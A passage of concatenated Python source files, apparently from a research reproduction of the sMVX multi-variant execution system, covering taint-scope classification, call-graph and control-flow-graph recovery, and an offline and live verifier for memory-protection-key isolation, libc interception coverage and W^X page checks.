                                f"{slot:#x} (written by {writer!r})"):
                    progress = True
        if not progress and not work:
            break

    # UNKNOWN upward closure: transitive callers of tainted functions
    # may observe tainted return values / shared structures
    pending = deque(name for name in klass
                    if klass[name] is TaintClass.TAINTED)
    while pending:
        func = pending.popleft()
        for caller in sorted(graph.callers(func)):
            if caller in klass or caller not in graph.edges:
                continue
            klass[caller] = TaintClass.UNKNOWN
            evidence[caller] = evidence.get(func, (func,)) + (caller,)
            reasons[caller] = (f"calls tainted {func!r}: may observe "
                               f"tainted returns or shared state")
            pending.append(caller)

    # a function whose own control flow is statically unresolved cannot
    # be proven clean either
    for name in defined:
        if name not in klass and INDIRECT in graph.callees(name):
            klass[name] = TaintClass.UNKNOWN
            reasons[name] = ("contains an indirect call the alias "
                            "analysis could not resolve")

    for name in defined:
        klass.setdefault(name, TaintClass.CLEAN)
        reasons.setdefault(name, "no modeled flow from a network-input "
                                 "source reaches this function")

    functions = {
        name: FunctionScope(name, klass[name],
                            tuple(evidence.get(name, ())),
                            reasons.get(name, ""))
        for name in defined}
    selected = frozenset(name for name in defined
                         if klass[name] is TaintClass.TAINTED)
    root, candidates = derive_root(graph, selected)
    return ScopeReport(
        image=image.name,
        functions=functions,
        sources=tuple(sources),
        root_candidates=candidates,
        derived_root=root,
        conservative_sites=tuple(conservative),
        tainted_slots=frozenset(tainted_slots),
    )
