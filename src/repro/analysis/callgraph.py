"""Static call-graph construction over program images.

The sMVX variant loader needs to know, given the protected root function,
which functions the follower variant must contain — the root's call-graph
subtree (paper Figure 2: protecting ``func2()`` replicates ``subfunc1``,
``subfunc2``, ``subsubfunc2``).

Edges come from two sources:

* **ISA functions** — genuine static analysis: disassemble the function
  body and resolve every direct ``CALL``/``JMP`` displacement to the
  symbol containing its target;
* **HL functions** — the callee list declared at image-build time (the
  hybrid-model analogue of compiler-emitted call info).

Libc imports appear as ``name@plt`` leaf nodes, so the graph also answers
"which libc functions can this subtree reach".

Register- and memory-target branches (``CALL_R``/``JMP_R``/``JMP_M``)
are resolved through the alias analysis where possible: a site the
pointer-table propagation proof (:mod:`repro.analysis.alias`) pins to a
static code-pointer table contributes concrete edges to that table's
entries.  Anything the proof cannot pin down is recorded as an edge to
the :data:`INDIRECT` pseudo-callee instead of being dropped, so consumers
(the interception-coverage verifier in particular) can be *conservative*
— "this subtree contains a crossing I could not resolve" — rather than
silently unsound.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Mapping, Optional, Set, Tuple

from repro.errors import SymbolNotFound
from repro.loader.image import ProgramImage, Symbol
from repro.machine.disasm import disassemble_bytes
from repro.machine.isa import INSTR_SIZE, Op

#: Pseudo-callee marking a statically unresolvable branch target
#: (``CALL_R``/``JMP_R``/``JMP_M``) inside a function body.
INDIRECT = "<indirect>"

_INDIRECT_OPS = (Op.CALL_R, Op.JMP_R, Op.JMP_M)


@dataclass
class CallGraph:
    """Adjacency over function names (``callee@plt`` for libc imports)."""

    image_name: str
    edges: Dict[str, Set[str]] = field(default_factory=dict)

    def callees(self, name: str) -> Set[str]:
        return set(self.edges.get(name, ()))

    def callers(self, name: str) -> Set[str]:
        return {caller for caller, callees in self.edges.items()
                if name in callees}

    def subtree(self, root: str) -> Set[str]:
        """Transitive closure of callees from ``root`` (root included),
        restricted to defined functions (PLT leaves excluded)."""
        if root not in self.edges:
            raise SymbolNotFound(root)
        seen: Set[str] = set()
        stack = [root]
        while stack:
            current = stack.pop()
            if current in seen or current.endswith("@plt") \
                    or current == INDIRECT:
                continue
            seen.add(current)
            stack.extend(self.edges.get(current, ()))
        return seen

    def libc_reachable(self, root: str) -> Set[str]:
        """Libc imports reachable from ``root``'s subtree."""
        reachable: Set[str] = set()
        for func in self.subtree(root):
            for callee in self.edges.get(func, ()):
                if callee.endswith("@plt"):
                    reachable.add(callee[:-len("@plt")])
        return reachable

    def roots(self) -> Set[str]:
        called = {c for callees in self.edges.values() for c in callees}
        return {name for name in self.edges
                if name not in called and not name.endswith("@plt")}

    def indirect_sites(self, root: str) -> Set[str]:
        """Functions in ``root``'s subtree containing an unresolvable
        (register/memory-target) branch.  A non-empty result means any
        reachability claim about the subtree is conservative, not exact."""
        return {func for func in self.subtree(root)
                if INDIRECT in self.edges.get(func, ())}


def _isa_call_targets(image: ProgramImage, sym: Symbol,
                      site_targets: Mapping[int, Tuple[str, ...]] = {},
                      ) -> Set[str]:
    """Disassemble one ISA function and resolve direct branch targets.

    ``site_targets`` carries the alias analysis's per-site proof for
    indirect branches; a site it resolves contributes concrete edges, an
    unproven site falls back to the :data:`INDIRECT` pseudo-callee.
    """
    text = image.sections[".text"]
    body = text[sym.offset:sym.offset + sym.size]
    targets: Set[str] = set()
    for addr, instr in disassemble_bytes(body, base=sym.offset):
        if instr.op in _INDIRECT_OPS:
            resolved_names = site_targets.get(addr)
            if resolved_names:
                targets.update(name for name in resolved_names
                               if name != sym.name)
            else:
                targets.add(INDIRECT)
            continue
        if instr.op not in (Op.CALL, Op.JMP):
            continue
        # next-instruction relative displacement
        target_offset = addr + INSTR_SIZE + instr.imm
        resolved = _symbol_containing(image, target_offset)
        if resolved is not None and resolved.name != sym.name:
            targets.add(resolved.name)
    return targets


def _symbol_containing(image: ProgramImage,
                       text_like_offset: int) -> Optional[Symbol]:
    """Map a base-relative offset to the function containing it.

    Handles both ``.text`` offsets and ``.plt`` offsets (PLT entries live
    after ``.text`` in the image layout, and intra-image displacement math
    already accounts for the section bases).
    """
    layout = {name: (off, size) for name, off, size
              in image.section_layout()}
    for sym in image.symbols:
        if sym.kind != "func":
            continue
        base = layout[sym.section][0] if sym.section in layout else 0
        # ISA displacements were computed against section-relative
        # addresses inside .text; PLT symbols need the section offset.
        if sym.section == ".text":
            start = sym.offset
        elif sym.section == ".plt":
            start = (layout[".plt"][0] - layout[".text"][0]) + sym.offset
        else:
            continue
        if start <= text_like_offset < start + sym.size:
            return sym
    return None


def build_callgraph(image: ProgramImage, alias=None) -> CallGraph:
    """Build the call graph, narrowing indirect sites through ``alias``.

    ``alias`` is an :class:`~repro.analysis.alias.AliasAnalysis` (computed
    on demand when omitted); its pointer-table proof replaces
    ``<indirect>`` edges with concrete ones wherever a register call's
    target set is statically known, upgrading every downstream
    conservative claim (interception coverage, subtree membership) to an
    exact one at those sites.
    """
    if alias is None:
        from repro.analysis.alias import analyze_image_pointers
        alias = analyze_image_pointers(image)
    graph = CallGraph(image.name)
    hl_by_name = {hl.name: hl for hl in image.hl_functions}
    for sym in image.function_symbols():
        if sym.section != ".text":
            continue
        if sym.name in hl_by_name:
            declared = hl_by_name[sym.name].calls
            resolved = set()
            for callee in declared:
                if image.has_symbol(callee):
                    resolved.add(callee)
                elif callee in image.plt_imports:
                    resolved.add(f"{callee}@plt")
                else:
                    # undeclared external: keep the name; subtree() skips it
                    resolved.add(callee)
            graph.edges[sym.name] = resolved
        else:
            graph.edges[sym.name] = _isa_call_targets(
                image, sym, alias.indirect_targets.get(sym.name, {}))
    return graph


def protected_function_set(image: ProgramImage, root: str) -> Set[str]:
    """The set of defined functions the follower variant must contain."""
    return build_callgraph(image).subtree(root)
