"""Per-function basic-block CFG recovery over the fixed-width ISA.

The verifier (``repro.analysis.verify``) needs more than the call graph's
"who calls whom": the PKRU-gate dataflow pass must walk every *path*
through the monitor trampoline, and the coverage checker must know when a
function contains a branch whose target cannot be resolved statically.
This module recovers, per function:

* **basic blocks** — maximal straight-line instruction runs, split at
  branch targets and after control transfers;
* **intra-function edges** — direct jump/branch targets and fall-through
  successors, by address;
* **explicit indirect markers** — ``CALL_R``/``JMP_R``/``JMP_M`` sites
  are listed in :attr:`FunctionCFG.indirect_sites` and flagged on their
  block, never silently dropped (the fixed-width ISA makes everything
  *else* exact, so an indirect marker is the only source of
  conservatism);
* **call sites** — ``CALL``/``HLCALL`` instructions with their resolved
  target address (``None`` for register calls), used by the gate pass to
  check what runs while the monitor's pkey is open;
* **escapes** — direct jumps whose target lies outside the function body
  (tail calls; the interposition stubs end in exactly such a jump);
* **invalid slots** — instruction slots inside the body that do not
  decode (embedded data, or a corrupted image).  Recovery uses the
  windowed ``skip_invalid`` disassembly mode and reports the holes.

Decoding happens on raw section bytes, so CFGs can be recovered from an
unloaded :class:`~repro.loader.image.ProgramImage` (offline verification)
or from privileged reads of a live address space (bring-up audit).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Set, Tuple

from repro.loader.image import ProgramImage, Symbol
from repro.machine.disasm import disassemble_bytes
from repro.machine.isa import INSTR_SIZE, Instruction, Op

#: conditional branches: taken target + fall-through successor
COND_BRANCH_OPS = frozenset({Op.JE, Op.JNE, Op.JL, Op.JGE, Op.JB, Op.JAE})

#: instructions that end a basic block
_TERMINATORS = frozenset({
    Op.JMP, Op.JMP_R, Op.JMP_M, Op.RET, Op.HLT,
    Op.CALL, Op.CALL_R, Op.HLCALL, Op.SYSCALL,
}) | COND_BRANCH_OPS

#: statically unresolvable control transfers
INDIRECT_OPS = frozenset({Op.CALL_R, Op.JMP_R, Op.JMP_M})


@dataclass
class BasicBlock:
    """One maximal straight-line run of instructions."""

    start: int
    instructions: List[Tuple[int, Instruction]]
    #: addresses of intra-function successor blocks
    successors: Tuple[int, ...] = ()
    #: True when the block ends in a branch whose target is unknown
    has_indirect_successor: bool = False

    @property
    def end(self) -> int:
        """Address one past the last instruction slot."""
        return self.instructions[-1][0] + INSTR_SIZE if self.instructions \
            else self.start

    @property
    def terminator(self) -> Optional[Instruction]:
        if not self.instructions:
            return None
        last = self.instructions[-1][1]
        return last if last.op in _TERMINATORS else None


@dataclass
class FunctionCFG:
    """The recovered control-flow graph of one function."""

    name: str
    entry: int
    blocks: Dict[int, BasicBlock] = field(default_factory=dict)
    #: (site address, resolved absolute target or None) per CALL/HLCALL
    call_sites: List[Tuple[int, Optional[int]]] = field(default_factory=list)
    #: addresses of CALL_R / JMP_R / JMP_M instructions
    indirect_sites: List[int] = field(default_factory=list)
    #: (site address, target address) of direct jumps leaving the body
    escapes: List[Tuple[int, int]] = field(default_factory=list)
    #: slot addresses inside the body that did not decode
    invalid_slots: List[int] = field(default_factory=list)

    def block_at(self, addr: int) -> Optional[BasicBlock]:
        for block in self.blocks.values():
            if block.start <= addr < block.end:
                return block
        return None

    def reachable_blocks(self) -> Set[int]:
        """Block starts reachable from the entry along recovered edges."""
        seen: Set[int] = set()
        stack = [self.entry]
        while stack:
            start = stack.pop()
            if start in seen or start not in self.blocks:
                continue
            seen.add(start)
            stack.extend(self.blocks[start].successors)
        return seen

    @property
    def instruction_count(self) -> int:
        return sum(len(b.instructions) for b in self.blocks.values())


def _branch_target(addr: int, instr: Instruction) -> int:
    """Absolute target of a direct control transfer (RIP-relative imm)."""
    return addr + INSTR_SIZE + instr.imm


def recover_cfg(code: bytes, base: int = 0, name: str = "?") -> FunctionCFG:
    """Recover the CFG of one function body laid out at ``base``."""
    decoded = dict(disassemble_bytes(code, base=base, skip_invalid=True))
    end = base + len(code) - len(code) % INSTR_SIZE
    cfg = FunctionCFG(name=name, entry=base)
    cfg.invalid_slots = [addr for addr in range(base, end, INSTR_SIZE)
                         if addr not in decoded]

    # ---- find leaders ----
    leaders: Set[int] = {base}
    for addr, instr in decoded.items():
        op = instr.op
        if op in _TERMINATORS:
            nxt = addr + INSTR_SIZE
            if nxt in decoded:
                leaders.add(nxt)
        if op is Op.JMP or op in COND_BRANCH_OPS:
            target = _branch_target(addr, instr)
            if base <= target < end:
                leaders.add(target)
    # a decode hole also starts a fresh leader right after it
    for hole in cfg.invalid_slots:
        nxt = hole + INSTR_SIZE
        if nxt in decoded:
            leaders.add(nxt)

    # ---- carve blocks ----
    ordered = sorted(leaders)
    for index, start in enumerate(ordered):
        if start not in decoded:
            continue
        limit = ordered[index + 1] if index + 1 < len(ordered) else end
        instrs: List[Tuple[int, Instruction]] = []
        addr = start
        while addr < limit and addr in decoded:
            instrs.append((addr, decoded[addr]))
            if decoded[addr].op in _TERMINATORS:
                addr += INSTR_SIZE
                break
            addr += INSTR_SIZE
        block = BasicBlock(start, instrs)
        cfg.blocks[start] = block
        _wire_block(cfg, block, base, end, decoded)
    return cfg


def _wire_block(cfg: FunctionCFG, block: BasicBlock, base: int, end: int,
                decoded: Dict[int, Instruction]) -> None:
    last_addr, last = block.instructions[-1]
    op = last.op
    succs: List[int] = []
    fallthrough = last_addr + INSTR_SIZE

    if op is Op.JMP:
        target = _branch_target(last_addr, last)
        if base <= target < end:
            succs.append(target)
        else:
            cfg.escapes.append((last_addr, target))
    elif op in COND_BRANCH_OPS:
        target = _branch_target(last_addr, last)
        if base <= target < end:
            succs.append(target)
        else:
            cfg.escapes.append((last_addr, target))
        if fallthrough in decoded:
            succs.append(fallthrough)
    elif op in (Op.CALL, Op.HLCALL):
        target = (_branch_target(last_addr, last) if op is Op.CALL
                  else None)
        cfg.call_sites.append((last_addr, target))
        if fallthrough in decoded:
            succs.append(fallthrough)
    elif op is Op.CALL_R:
        cfg.indirect_sites.append(last_addr)
        block.has_indirect_successor = True
        cfg.call_sites.append((last_addr, None))
        if fallthrough in decoded:
            succs.append(fallthrough)
    elif op in (Op.JMP_R, Op.JMP_M):
        cfg.indirect_sites.append(last_addr)
        block.has_indirect_successor = True
    elif op in (Op.RET, Op.HLT):
        pass
    elif op is Op.SYSCALL:
        if fallthrough in decoded:
            succs.append(fallthrough)
    else:
        # block split by a leader, not by a terminator: plain fall-through
        if fallthrough in decoded:
            succs.append(fallthrough)
    block.successors = tuple(dict.fromkeys(succs))


def recover_hot_region(code: bytes, base: int, entry: int,
                       max_blocks: int = 16) -> Dict[int, BasicBlock]:
    """Bounded superblock region for the JIT tier (``repro.machine.jit``).

    Recovers the CFG of ``code`` (one page, or any straight byte run laid
    out at ``base``) and returns the blocks reachable from ``entry``,
    breadth-first, capped at ``max_blocks``.  Edges leaving the returned
    region (page escapes, indirect branches, blocks past the cap) simply
    don't appear in a block's reachable set — the translator emits exits
    for them.

    If ``entry`` is not a leader of the page-wide CFG (code misaligned
    with respect to ``base``, or the promoting branch lives on another
    page), recovery retries on the tail slice starting exactly at
    ``entry`` so the promoted address itself anchors the region.
    """
    cfg = recover_cfg(code, base=base, name=f"hot@{entry:#x}")
    if entry not in cfg.blocks:
        off = entry - base
        if off < 0 or off >= len(code):
            return {}
        cfg = recover_cfg(code[off:], base=entry, name=f"hot@{entry:#x}")
        if entry not in cfg.blocks:
            return {}
    region: Dict[int, BasicBlock] = {}
    queue: List[int] = [entry]
    while queue and len(region) < max_blocks:
        start = queue.pop(0)
        if start in region:
            continue
        block = cfg.blocks.get(start)
        if block is None or not block.instructions:
            continue
        region[start] = block
        queue.extend(s for s in block.successors if s not in region)
    return region


def symbol_resolver(image: ProgramImage) -> Callable[[int], Optional[str]]:
    """Map a ``.text``-relative offset to the name of the function (or
    PLT entry) containing it, using the image's section layout — the same
    displacement convention the call-graph builder uses."""
    layout = {name: (off, size) for name, off, size
              in image.section_layout()}

    def resolve(offset: int) -> Optional[str]:
        for sym in image.symbols:
            if sym.kind != "func":
                continue
            if sym.section == ".text":
                start = sym.offset
            elif sym.section == ".plt" and ".plt" in layout:
                start = (layout[".plt"][0] - layout[".text"][0]) + sym.offset
            else:
                continue
            if start <= offset < start + sym.size:
                return sym.name
        return None

    return resolve


def function_cfg(image: ProgramImage, sym: Symbol) -> FunctionCFG:
    """Recover the CFG of one ``.text`` function of an image.

    Addresses are ``.text``-relative (the function's own section offset),
    matching the displacement base the assembler emitted against.
    """
    text = image.sections[".text"]
    body = text[sym.offset:sym.offset + sym.size]
    return recover_cfg(body, base=sym.offset, name=sym.name)


def image_cfgs(image: ProgramImage) -> Dict[str, FunctionCFG]:
    """CFGs for every ``.text`` function of an image."""
    return {sym.name: function_cfg(image, sym)
            for sym in image.function_symbols()
            if sym.section == ".text"}
