"""``repro.analysis.verify`` — static MPK-isolation, interception-coverage
and divergence-surface verification (paper §3.2–§3.4).

The sMVX security argument was previously only checked *dynamically*: a
stray PKRU write, a missed libc interception, or a W^X page surfaced as a
runtime fault or a false divergence alarm.  This module proves the
invariants offline — over a :class:`~repro.loader.image.ProgramImage`
before it is loaded, and over a live, monitor-attached address space at
bring-up — so a broken deployment fails closed, before any guest request
is served.

Checks and finding codes
------------------------

========  ========================================================
code      meaning
========  ========================================================
CFG001    undecodable instruction slot inside a function body
PKRU00x   gate-discipline violations (see :mod:`repro.analysis.pkru`)
ICOV001   unintercepted ``@plt`` crossing inside a protected subtree
ICOV002   indirect branch in a protected subtree (coverage is
          conservative, not exact) — warning
ICOV003   GOT slot of an intercepted import no longer points at the
          monitor's stub
DIV001    benign-divergence source reachable but not intercepted
DIV002    benign-divergence source executed locally by both variants
WXOR001   page mapped writable *and* executable
MPK001    monitor memory not tagged with the monitor's protection key
MPK002    monitor text not execute-only (readable or writable)
GOT001    target ``.got.plt`` writable after interposition
SCOPE001  hand-picked protected set misses a statically tainted
          function (network input reaches code outside MVX) — warning
SCOPE002  protected subtree contains a provably clean function
          (wasted MVX replication overhead) — warning
SCOPE003  tainted function contains an indirect call the alias proof
          could not resolve; the selection was widened conservatively
          to the address-taken set — warning
VER001    verification could not run as configured (bad root, …)
========  ========================================================

The ``SCOPE`` family lints the *selection itself* against the automatic
scope analysis (:mod:`repro.analysis.scope`).  It is opt-in
(``verify_image(..., scope=True)`` / ``--scope``) because the bundled
default roots intentionally differ from the derived set in documented
ways; the scope CLI (``python -m repro.analysis scope``) and the corpus
run it explicitly.

Divergence-surface entries for sources the monitor *neutralizes* (the
leader executes; the result is replayed to the follower) are reported in
:attr:`~repro.analysis.findings.VerifyReport.divergence_surface` instead
of as findings — they are what :func:`explain_alarm` cross-checks
``repro.trace`` divergence alarms against.

Entry points: :func:`verify_image` (offline), :func:`audit_live_space`
and :func:`verify_process` (bring-up), ``python -m repro.analysis.verify``
(CLI), and the opt-in strict modes on ``SmvxMonitor``/``Loader.load``.
"""

from __future__ import annotations

import argparse
import sys
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.analysis.callgraph import INDIRECT, build_callgraph
from repro.analysis.cfg import image_cfgs
from repro.analysis.findings import Finding, Severity, VerifyReport
from repro.analysis.pkru import (
    GatePolicy,
    verify_monitor_image,
    wrpkru_sites_in_image,
    wrpkru_sites_in_space,
)
from repro.errors import SymbolNotFound
from repro.libc.categories import Category, spec_for
from repro.loader.image import ProgramImage
from repro.machine.memory import (
    PAGE_SIZE,
    PROT_EXEC,
    PROT_READ,
    PROT_WRITE,
)

#: libc calls whose results legitimately differ between two executions
#: (the paper's benign divergences): wall-clock reads and process
#: identity.  ``/dev/urandom`` is the third source; it flows through
#: ``open``/``read`` and is detected from the image's string constants.
BENIGN_DIVERGENCE_SOURCES = {
    "time": "wall clock",
    "gettimeofday": "wall clock",
    "localtime_r": "wall clock",
    "getpid": "process identity",
}

_URANDOM_PATH = b"/dev/urandom"


def _default_intercept_table() -> Set[str]:
    """The monitor's lift/intercept table: every libc call it can
    dispatch through the gate (import of ``LIBC_FUNCTIONS`` is deferred
    so offline image checks don't pull in the whole runtime)."""
    from repro.libc.libc import LIBC_FUNCTIONS
    return set(LIBC_FUNCTIONS)


# ---------------------------------------------------------------------------
# image-level (offline) checks
# ---------------------------------------------------------------------------

def check_cfg_recovery(image: ProgramImage, report: VerifyReport) -> None:
    """Recover every function CFG; flag undecodable slots in bodies."""
    report.ran("cfg-recovery")
    for name, cfg in image_cfgs(image).items():
        for slot in cfg.invalid_slots:
            report.add("CFG001", Severity.WARNING,
                       "instruction slot does not decode (data in .text, "
                       "or image corruption)", image=image.name,
                       symbol=name, address=slot)


def check_stray_wrpkru(image: ProgramImage, report: VerifyReport) -> None:
    """Application images must contain zero PKRU writes: any ``wrpkru``
    reachable by (or usable as a gadget from) app code can open the
    monitor's protection key."""
    report.ran("pkru-placement")
    for symbol, addr in wrpkru_sites_in_image(image):
        report.add("PKRU001", Severity.ERROR,
                   "application image contains a PKRU-writing "
                   "instruction outside any blessed trampoline",
                   image=image.name, symbol=symbol, address=addr)


def check_interception_coverage(image: ProgramImage,
                                roots: Sequence[str],
                                intercepted: Set[str],
                                report: VerifyReport) -> None:
    """Every ``name@plt`` leaf in a protected root's call-graph subtree
    must appear in the monitor's intercept table (complete interception
    of crossings is a *correctness* condition under selective
    replication, not just hardening)."""
    report.ran("interception-coverage")
    graph = build_callgraph(image)
    for root in roots:
        try:
            subtree = graph.subtree(root)
        except SymbolNotFound:
            report.add("VER001", Severity.ERROR,
                       f"protected root {root!r} is not a defined "
                       f"function of the image", image=image.name,
                       symbol=root)
            continue
        missing: Set[str] = set()
        for func in sorted(subtree):
            for callee in graph.callees(func):
                if not callee.endswith("@plt"):
                    continue
                name = callee[:-len("@plt")]
                if name.startswith("mvx_"):
                    continue   # redirected to the monitor's own API
                if name not in intercepted:
                    missing.add(name)
                    report.add(
                        "ICOV001", Severity.ERROR,
                        f"libc crossing {name!r} (called from "
                        f"{func!r}) is reachable from protected root "
                        f"{root!r} but absent from the intercept table",
                        image=image.name, symbol=func)
        conservative = graph.indirect_sites(root)
        if conservative:
            report.add(
                "ICOV002", Severity.WARNING,
                f"protected subtree of {root!r} contains unresolved "
                f"indirect branches in: "
                f"{', '.join(sorted(conservative))} — interception "
                f"coverage is conservative, not exact",
                image=image.name, symbol=root)


def check_divergence_surface(image: ProgramImage,
                             roots: Sequence[str],
                             intercepted: Set[str],
                             report: VerifyReport) -> None:
    """Statically flag benign-divergence sources reachable from the
    replicated subtree, and record how each one is (or is not)
    neutralized by the lockstep emulation categories."""
    report.ran("divergence-surface")
    graph = build_callgraph(image)
    has_urandom = any(
        _URANDOM_PATH in image.sections.get(section, b"")
        for section in (".rodata", ".data"))
    for root in roots:
        try:
            reachable = graph.libc_reachable(root)
        except SymbolNotFound:
            continue   # ICOV already reported the bad root
        for name in sorted(reachable):
            kind = BENIGN_DIVERGENCE_SOURCES.get(name)
            if kind is None:
                continue
            spec = spec_for(name)
            category = spec.category if spec else Category.LOCAL
            if name not in intercepted:
                report.add(
                    "DIV001", Severity.ERROR,
                    f"benign-divergence source {name!r} ({kind}) is "
                    f"reachable from root {root!r} but not "
                    f"intercepted: the variants will observe "
                    f"different values and raise false alarms",
                    image=image.name, symbol=root)
            elif category is Category.LOCAL:
                report.add(
                    "DIV002", Severity.WARNING,
                    f"benign-divergence source {name!r} ({kind}) is "
                    f"classified LOCAL: both variants execute it "
                    f"independently and may legitimately diverge",
                    image=image.name, symbol=root)
            else:
                entry = {
                    "root": root, "name": name, "kind": kind,
                    "category": category.name,
                    "disposition": "leader executes; result replayed "
                                   "to the follower (neutralized)"}
                if entry not in report.divergence_surface:
                    report.divergence_surface.append(entry)
        if has_urandom and "open" in reachable and "read" in reachable:
            entry = {
                "root": root, "name": "/dev/urandom",
                "kind": "randomness", "category": "RETVAL_AND_BUFFER",
                "disposition": "read buffers replayed to the follower "
                               "(neutralized)"}
            if entry not in report.divergence_surface:
                report.divergence_surface.append(entry)


def check_scope_selection(image: ProgramImage,
                          roots: Sequence[str],
                          report: VerifyReport,
                          scope_report=None) -> None:
    """Lint the (hand-picked) protected set against the automatic scope
    analysis: flag statically tainted functions the selection misses
    (SCOPE001 — network input reaches unreplicated code), provably clean
    functions it includes (SCOPE002 — pure MVX overhead), and sites where
    the static selection itself had to widen conservatively (SCOPE003)."""
    from repro.analysis.scope import TaintClass, compute_scope
    report.ran("scope-selection")
    if scope_report is None:
        scope_report = compute_scope(image)
    graph = build_callgraph(image)
    covered: Set[str] = set()
    for root in roots:
        try:
            covered |= graph.subtree(root)
        except SymbolNotFound:
            report.add("VER001", Severity.ERROR,
                       f"protected root {root!r} is not a defined "
                       f"function of the image", image=image.name,
                       symbol=root)
    for name in sorted(scope_report.selected - covered):
        scope = scope_report.functions[name]
        path = " -> ".join(scope.evidence) or scope.reason
        report.add("SCOPE001", Severity.WARNING,
                   f"statically tainted function {name!r} is outside "
                   f"the protected set (roots "
                   f"{', '.join(map(repr, roots)) or 'none'}): network "
                   f"input reaches it unreplicated [{path}]",
                   image=image.name, symbol=name)
    for name in sorted(covered):
        if scope_report.classification(name) is TaintClass.CLEAN:
            report.add("SCOPE002", Severity.WARNING,
                       f"protected set includes {name!r}, which the "
                       f"scope analysis proves clean: replicating it is "
                       f"pure MVX overhead "
                       f"[{scope_report.functions[name].reason}]",
                       image=image.name, symbol=name)
    for func, detail in scope_report.conservative_sites:
        report.add("SCOPE003", Severity.WARNING,
                   f"tainted function {func!r}: {detail}",
                   image=image.name, symbol=func)


def verify_image(image: ProgramImage,
                 roots: Sequence[str] = (),
                 intercepted: Optional[Set[str]] = None,
                 report: Optional[VerifyReport] = None,
                 scope: bool = False) -> VerifyReport:
    """Offline verification of one application image.

    ``scope=True`` additionally lints the selection against the
    automatic scope analysis (SCOPE00x; opt-in — see module docstring).
    """
    if report is None:
        report = VerifyReport(target=image.name)
    if intercepted is None:
        intercepted = _default_intercept_table()
    check_cfg_recovery(image, report)
    check_stray_wrpkru(image, report)
    if roots:
        check_interception_coverage(image, roots, intercepted, report)
        check_divergence_surface(image, roots, intercepted, report)
    if scope:
        check_scope_selection(image, roots, report)
    return report


# ---------------------------------------------------------------------------
# live-space (bring-up) audit
# ---------------------------------------------------------------------------

def _monitor_text_range(monitor) -> Tuple[int, int]:
    start, size = monitor.monitor_image.section_range(".text")
    plt_start, plt_size = monitor.monitor_image.section_range(".plt")
    end = max(start + size, plt_start + plt_size)
    return start, end


def check_wx_pages(space, report: VerifyReport) -> None:
    """W^X: no page may be simultaneously writable and executable."""
    report.ran("wx-audit")
    for base, length, prot, tag in space.mapped_regions():
        if prot & PROT_WRITE and prot & PROT_EXEC:
            report.add("WXOR001", Severity.ERROR,
                       f"page range {base:#x}+{length:#x} ({tag or '?'}) "
                       f"is mapped writable and executable",
                       address=base)


def check_live_wrpkru_placement(space, report: VerifyReport,
                                monitor=None) -> None:
    """Every WRPKRU slot in any executable page must lie inside the
    monitor's trampoline text (the blessed region)."""
    report.ran("pkru-placement")
    blessed: Optional[Tuple[int, int]] = None
    if monitor is not None and monitor.monitor_image is not None:
        blessed = _monitor_text_range(monitor)
    for addr, tag in wrpkru_sites_in_space(space):
        if blessed is not None and blessed[0] <= addr < blessed[1]:
            continue
        report.add("PKRU001", Severity.ERROR,
                   f"PKRU-writing instruction slot in page {tag!r} "
                   f"outside the blessed monitor trampoline",
                   address=addr)


def _check_monitor_keying(process, monitor, report: VerifyReport) -> None:
    """All monitor memory must carry the monitor pkey; text must be XoM."""
    report.ran("monitor-keying")
    space = process.space
    loaded = monitor.monitor_image
    for section, _offset, size in loaded.image.section_layout():
        start, _ = loaded.section_range(section)
        for page_base in range(start, start + max(size, 1), PAGE_SIZE):
            page = space.page_at(page_base)
            if page is None:
                continue
            if page.pkey != monitor.pkey:
                report.add("MPK001", Severity.ERROR,
                           f"monitor section {section} page not tagged "
                           f"with the monitor pkey "
                           f"(pkey={page.pkey}, want {monitor.pkey})",
                           address=page_base)
            if section in (".text", ".plt") and (
                    page.prot & (PROT_READ | PROT_WRITE)):
                report.add("MPK002", Severity.ERROR,
                           f"monitor {section} page is not execute-only "
                           f"(prot={page.prot:#o})", address=page_base)
    for area, size, label in (
            (monitor.memory.safe_stack_area,
             monitor.memory.safe_stack_size, "safe stacks"),
            (monitor.memory.ipc_area, monitor.memory.ipc_size,
             "lockstep IPC")):
        for page_base in range(area, area + size, PAGE_SIZE):
            page = space.page_at(page_base)
            if page is None or page.pkey != monitor.pkey:
                report.add("MPK001", Severity.ERROR,
                           f"monitor {label} page not tagged with the "
                           f"monitor pkey", address=page_base)


def _check_got_sealed(process, monitor, report: VerifyReport) -> None:
    """After interposition the target's ``.got.plt`` must be read-only
    and every slot must still point into the monitor."""
    report.ran("got-audit")
    space = process.space
    target = monitor.target
    start, size = target.section_range(".got.plt")
    for page_base in range(start, start + max(size, 1), PAGE_SIZE):
        page = space.page_at(page_base)
        if page is not None and page.prot & PROT_WRITE:
            report.add("GOT001", Severity.ERROR,
                       "target .got.plt page still writable after "
                       "interposition (GOT-overwrite surface)",
                       image=target.image.name, address=page_base)
    for name in monitor.plt_names:
        slot_value = process.loader.read_got_slot(target, name)
        stub = monitor.monitor_image.symbol_address(f"smvx_stub_{name}")
        if slot_value != stub:
            report.add("ICOV003", Severity.ERROR,
                       f"GOT slot of {name!r} points at "
                       f"{slot_value:#x}, not the monitor stub "
                       f"{stub:#x}: calls bypass the gate",
                       image=target.image.name, symbol=name,
                       address=target.got_slot_address(name))


def audit_live_space(process, monitor=None,
                     roots: Sequence[str] = (),
                     report: Optional[VerifyReport] = None) -> VerifyReport:
    """Audit a live guest address space (and its attached monitor)."""
    if report is None:
        report = VerifyReport(target=f"process:{process.name}")
    space = process.space
    check_wx_pages(space, report)
    check_live_wrpkru_placement(space, report, monitor=monitor)
    if monitor is not None and monitor.monitor_image is not None:
        report.ran("gate-dataflow")
        policy = GatePolicy(pkru_open=monitor.memory.pkru_open,
                            pkru_closed=monitor.memory.pkru_closed)
        report.findings.extend(
            verify_monitor_image(monitor.monitor_image.image, policy))
        _check_monitor_keying(process, monitor, report)
        _check_got_sealed(process, monitor, report)
        if roots:
            check_interception_coverage(
                monitor.target.image, roots,
                set(monitor.plt_names), report)
            check_divergence_surface(
                monitor.target.image, roots,
                set(monitor.plt_names), report)
    return report


def verify_process(process, monitor=None,
                   roots: Sequence[str] = ()) -> VerifyReport:
    """Full verification: offline image checks on the protected target
    plus the live-space audit.  This is what the monitor's opt-in strict
    mode runs at the end of ``setup()``."""
    report = VerifyReport(target=f"process:{process.name}")
    if monitor is not None and monitor.target is not None:
        # image-level checks only; the roots-based coverage/divergence
